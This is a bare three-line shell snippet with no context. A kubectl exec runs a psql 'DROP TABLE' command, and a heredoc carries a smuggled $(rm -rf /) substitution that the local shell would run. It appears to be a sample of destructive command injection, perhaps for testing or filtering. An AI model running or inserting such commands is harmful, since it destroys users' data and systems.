kubectl exec -it x -- psql -c 'DROP TABLE a' <<EOF
$(rm -rf /)
EOF
